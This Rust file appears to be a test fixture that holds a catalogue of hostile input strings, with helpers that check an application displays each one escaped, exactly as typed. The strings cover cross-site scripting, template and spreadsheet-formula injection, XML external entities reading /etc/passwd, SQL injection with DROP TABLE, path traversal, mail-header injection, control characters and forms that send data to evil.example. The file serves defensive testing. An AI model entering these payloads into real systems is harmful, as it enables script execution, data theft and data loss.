//! The words, each with what it would do where it is not shown as words.

/// Words and what would be wrong.
pub struct Payload {
    pub text: &'static str,
    pub wrong: &'static str,
}

const fn p(text: &'static str, wrong: &'static str) -> Payload {
    Payload { text, wrong }
}

/// Words that are taken as they are.
#[rustfmt::skip]
pub const TAKEN: &[Payload] = &[
    p("<img src=x onerror=alert(1)>", "an element that runs a script"),
    p("\"><script>alert(1)</script>", "a script behind an attribute in double quotes"),
    p("'><svg onload=alert(1)>", "a drawing that runs a script, behind an attribute in single quotes"),
    p("\" onmouseover=\"alert(1)\" hostile=\"", "attributes in an element in double quotes"),
    p("' onfocus='alert(1)' hostile='", "attributes in an element in single quotes"),
    p("x onclick=alert(1) hostile", "attributes in an element without quotes"),
    p("</textarea><script>alert(1)</script>", "the end of a text field"),
    p("</title><script>alert(1)</script>", "the end of a title"),
    p("</script><script>alert(1)</script>", "the end of a script"),
    p("</style><style>*{display:none}</style>", "the end of a style"),
    p("</option></select><hostile-tag>", "the end of a choice"),
    p("--><script>alert(1)</script><!--", "the end of a comment"),
    p("<a href=\"javascript:alert(1)\">点此</a>", "a link that runs a script"),
    p("javascript:alert(document.domain)//", "a link that runs a script, where words become links"),
    p("//evil.example/登录", "a link to another site"),
    p("https://evil.example/?a=<b>&b", "a link to another site"),
    p("https://mashang.test.evil.example/x", "a link to another site that begins as this one does"),
    p("<form action=//evil.example><input name=pin>", "a form that sends to another site"),
    p("<meta http-equiv=refresh content=0;//evil.example>", "a page that leads away"),
    p("<style>@import'//evil.example'</style>", "a style of another site"),
    p("{{7*7}}{% if 1 %}{{ page }}{% endif %}", "a template that is filled in twice"),
    p("${7*7} #{7*7} <%= 7*7 %>", "a template of another kind"),
    p("{ $count } { -brand } { \"x\" } {", "a message of Fluent that is filled in twice"),
    p("=HYPERLINK(\"http://evil.example\",\"点此\")", "a formula"),
    p("+1+cmd|' /C calc'!A0", "a formula"),
    p("-2+3", "a formula"),
    p("@SUM(A1:A9)", "a formula"),
    p("＝1+1", "a formula, in full width"),
    p("＋1", "a formula, in full width"),
    p("－1", "a formula, in full width"),
    p("＠SUM(1)", "a formula, in full width"),
    p("甲,\"乙\";丙|丁", "more cells than there are"),
    p("𠮷野家㙟䶮有限公司👩‍👩‍👧‍👦🇨🇳", "characters beyond 16 bits, and pictures of several"),
    p("WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW", "a word that no line holds"),
    p("长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长长", "a name that no sign holds"),
    p("]]>&#x0;<![CDATA[x]]><?x?>", "the end of a part of XML"),
    p("&lt;b&gt;&quot;&#39;&#60;script&#62;&amp;&nbsp;", "entities that are resolved"),
    p("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "an entity of XML"),
    p("(a) Tj ET Q \\) endstream endobj %%EOF", "commands of PDF"),
    p("' OR '1'='1'; DROP TABLE filings;--", "a command of SQL"),
    p("%_\\%[a-z]*", "wildcards of SQL"),
    p("../../../../etc/passwd", "a path"),
    p("C:\\Windows\\win.ini", "a path"),
    p("null", "nothing"),
    p("undefined", "nothing"),
    p("None", "nothing"),
    p("NaN", "no number"),
    p("false", "a yes or no"),
    p("Bcc: all@evil.example", "a header of a mail"),
    p("%0d%0aBcc:%20all@evil.example", "a header of a mail, encoded"),
    p("=?utf-8?B?PHNjcmlwdD4=?=", "a word of a header that is decoded"),
    p("\\r\\nEND:VEVENT\\nBEGIN:VALARM", "a part of a calendar"),
    p("审\u{200c}查\u{200d}员", "joiners, which stay"),
];

/// Words that a line has not: each is refused with the form again, or mended.
#[rustfmt::skip]
pub const NOT_IN_A_LINE: &[Payload] = &[
    p("甲\r\nBcc: all@evil.example", "a header of a mail"),
    p("甲\nSubject: 乙", "a header of a mail"),
    p("甲\u{0}乙", "the end of a text of C"),
    p("甲\u{8}\u{1b}[2J乙", "commands of a terminal"),
    p("甲\t=1+1", "another cell"),
    p("甲\u{85}乙\u{9b}", "controls of the second table"),
    p("甲\u{2028}乙\u{2029}", "the end of a line of a script"),
    p("发票\u{202e}fdp.exe", "an ending that is turned around"),
    p("甲\u{2066}乙\u{2069}丙", "a text that is turned around"),
    p("甲\u{200f}乙\u{61c}", "a mark of direction"),
    p("甲\u{fffd}乙", "letters that were lost already"),
];

/// What a spreadsheet takes for the beginning of a formula.
pub const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// The mark that ends words in a column: by it they are found again, whole.
pub fn marked(payload: usize, column: usize, row: i64) -> String {
    format!("{}~{column}.{payload}.{row}~", TAKEN[payload].text)
}

/// A mark that was found in a text, with what stands before it.
pub struct Found<'t> {
    pub before: &'t str,
    pub column: usize,
    pub payload: usize,
}

/// The marks in a text.
pub fn marks(text: &str) -> Vec<Found<'_>> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices('~') {
        let Some((inside, _)) = text[at + 1..].split_once('~') else { break };
        let mut numbers = inside.split('.').map(str::parse::<usize>);
        if let (Some(Ok(column)), Some(Ok(payload)), Some(Ok(_)), None) =
            (numbers.next(), numbers.next(), numbers.next(), numbers.next())
            && payload < TAKEN.len()
        {
            found.push(Found { before: &text[..at], column, payload });
        }
    }
    found
}

/// What is wrong with the words of a text: those before a mark are not whole, or not as they were typed. The audit shows its details as JSON,
/// and there as JSON has them.
pub fn changed(text: &str) -> Vec<String> {
    let whole = |found: &Found<'_>| {
        let typed = TAKEN[found.payload].text;
        let quoted = serde_json::Value::from(typed).to_string();
        found.before.ends_with(typed) || found.before.ends_with(&quoted[1..quoted.len() - 1])
    };
    let wrong = marks(text).into_iter().filter(|found| !whole(found));
    wrong
        .map(|found| {
            let Payload { text: typed, wrong } = TAKEN[found.payload];
            format!("{typed:?} ({wrong}) is not shown as typed: {:?}", tail(found.before))
        })
        .collect()
}

fn tail(text: &str) -> String {
    let count = text.chars().count();
    text.chars().skip(count.saturating_sub(100)).collect()
}

#[test]
fn marks_are_found_with_the_words_before_them() {
    let text = format!("x {} y {}", marked(3, 7, 1), marked(0, 12, 9));
    let found: Vec<_> = marks(&text).iter().map(|f| (f.column, f.payload)).collect();
    assert_eq!(found, [(7, 3), (12, 0)]);
    assert!(changed(&text).is_empty());
    assert_eq!(changed(&text.replace("onerror", "")).len(), 1);
    for payload in TAKEN.iter().chain(NOT_IN_A_LINE) {
        assert!(payload.text.chars().count() <= 75 && !payload.wrong.is_empty(), "{}", payload.text);
        assert!(!payload.text.contains('~'));
    }
}
